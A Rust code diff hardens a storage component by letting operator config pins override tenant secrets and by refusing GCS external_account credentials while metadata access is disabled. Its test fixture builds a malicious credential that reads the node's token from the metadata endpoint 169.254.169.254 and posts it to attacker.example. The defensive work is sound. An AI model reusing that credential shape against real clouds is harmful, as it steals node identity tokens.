@@ -68,15 +68,53 @@ fn env_credentials() -> BTreeMap<String, String> {
         .collect()
 }
 
-/// The config's options merged with the secret ones (credentials file,
-/// then environment), which win.
+/// The secret options (credentials file, then environment, which wins
+/// over it) with the config's options over them: secrets add what the
+/// config leaves out, never change what it sets. Why: a provider's
+/// operator pins options in the config (`disable_ec2_metadata = "true"`,
+/// an `fs` root under the data volume) and mounts the tenant's Secret as
+/// the credentials, which the tenant may edit at any time; a key there
+/// must not undo a pin and hand the agent the node's cloud identity.
 fn merged_options(cfg: &StorageConfig) -> Result<BTreeMap<String, String>> {
-    let mut options = cfg.options.clone();
+    let mut options = BTreeMap::new();
     if let Some(path) = &cfg.credentials {
         options.extend(read_credentials(path)?);
     }
     options.extend(env_credentials());
+    options.extend(cfg.options.clone());
+    check_pinned_credentials(&cfg.scheme, &options)?;
     Ok(options)
+}
+
+/// With the instance-metadata service pinned off (`disable_vm_metadata`,
+/// as the operator does), a GCS `credential` must not reach it another
+/// way: an `external_account` credential fetches its subject token from
+/// any URL, with any headers, it names (the metadata server's among them)
+/// and posts it to a token URL of its own; an impersonation credential
+/// starts from another. Only a service account's key or a user's refresh
+/// token are taken then.
+fn check_pinned_credentials(scheme: &str, options: &BTreeMap<String, String>) -> Result<()> {
+    if scheme != "gcs" || options.get("disable_vm_metadata").map(String::as_str) != Some("true") {
+        return Ok(());
+    }
+    let Some(credential) = options.get("credential") else {
+        return Ok(());
+    };
+    // OpenDAL takes it base64-encoded; a raw JSON one is looked at too.
+    let json = data_encoding::BASE64
+        .decode(credential.trim().as_bytes())
+        .unwrap_or_else(|_| credential.as_bytes().to_vec());
+    let kind = serde_json::from_slice::<serde_json::Value>(&json)
+        .ok()
+        .and_then(|v| v.get("type").and_then(|t| t.as_str()).map(str::to_string));
+    match kind.as_deref() {
+        Some("service_account") | Some("authorized_user") | None => Ok(()),
+        Some(other) => Err(Error::Config(format!(
+            "gcs storage: a `credential` of type {other:?} is refused while disable_vm_metadata \
+             is set (it fetches its token from a URL of its own choosing, the node's metadata \
+             service included): use a service account key (type \"service_account\")"
+        ))),
+    }
 }
 
 /// Opens a local folder as storage (`fs` rooted at `root`, the state in
@@ -133,8 +171,8 @@ pub fn open_agent_storage(cfg: &StorageConfig, state_prefix: &str) -> Result<Ope
     open(&cfg)
 }
 
-/// Opens the user's storage. Options named in the config are merged with the
-/// secret ones (credentials file, then environment), which win.
+/// Opens the user's storage: the config's options over the secret ones
+/// (credentials file, then environment), see [`merged_options`].
 pub fn open(cfg: &StorageConfig) -> Result<Operator> {
     open_with_timeout(cfg, timeout(), RETRIES)
 }
@@ -514,6 +552,71 @@ mod tests {
                 .collect(),
             credentials: None,
         }
+    }
+
+    /// A credentials file (a tenant's Secret, editable at any time) adds
+    /// options but cannot change one the config sets: the operator's pins
+    /// hold whatever the Secret says.
+    #[test]
+    fn secrets_add_options_but_never_change_the_configs() {
+        let tmp = tempfile::tempdir().unwrap();
+        let creds = tmp.path().join("secret");
+        std::fs::create_dir_all(&creds).unwrap();
+        for (k, v) in [
+            ("access_key_id", "AK"),
+            ("disable_ec2_metadata", "false"),
+            ("disable_config_load", "false"),
+        ] {
+            std::fs::write(creds.join(k), v).unwrap();
+        }
+        let mut c = cfg(
+            "s3",
+            &[
+                ("bucket", "b"),
+                ("disable_ec2_metadata", "true"),
+                ("disable_config_load", "true"),
+            ],
+        );
+        c.credentials = Some(creds);
+        let o = merged_options(&c).unwrap();
+        assert_eq!(o["disable_ec2_metadata"], "true");
+        assert_eq!(o["disable_config_load"], "true");
+        assert_eq!(o["access_key_id"], "AK");
+        assert_eq!(o["bucket"], "b");
+    }
+
+    /// With the metadata service pinned off, a GCS credential that would
+    /// fetch a token from a URL of its own (`external_account`) is refused
+    /// before anything is asked; a service account key is taken, and
+    /// without the pin (an agent run by its own user) any type is.
+    #[test]
+    fn a_gcs_credential_cannot_reach_the_metadata_service_when_it_is_pinned_off() {
+        let b64 = |j: &str| data_encoding::BASE64.encode(j.as_bytes());
+        let external = b64(
+            r#"{"type":"external_account","token_url":"https://attacker.example/t","credential_source":{"url":"http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token","headers":{"Metadata-Flavor":"Google"}}}"#,
+        );
+        let key = b64(r#"{"type":"service_account","client_email":"a@b","private_key":"x"}"#);
+        let options = |credential: &str, pinned: bool| {
+            let mut o: BTreeMap<String, String> = BTreeMap::new();
+            o.insert("credential".into(), credential.into());
+            if pinned {
+                o.insert("disable_vm_metadata".into(), "true".into());
+            }
+            o
+        };
+        let e = check_pinned_credentials("gcs", &options(&external, true)).unwrap_err();
+        assert!(e.to_string().contains("external_account"), "{e}");
+        check_pinned_credentials("gcs", &options(&key, true)).unwrap();
+        check_pinned_credentials("gcs", &options(&external, false)).unwrap();
+        // Through the whole merge: the pin comes from the config, the
+        // credential from the Secret.
+        let tmp = tempfile::tempdir().unwrap();
+        let creds = tmp.path().join("secret");
+        std::fs::create_dir_all(&creds).unwrap();
+        std::fs::write(creds.join("credential"), &external).unwrap();
+        let mut c = cfg("gcs", &[("bucket", "b"), ("disable_vm_metadata", "true")]);
+        c.credentials = Some(creds);
+        assert!(merged_options(&c).is_err());
     }
 
     /// A server that accepts connections and never answers: every request
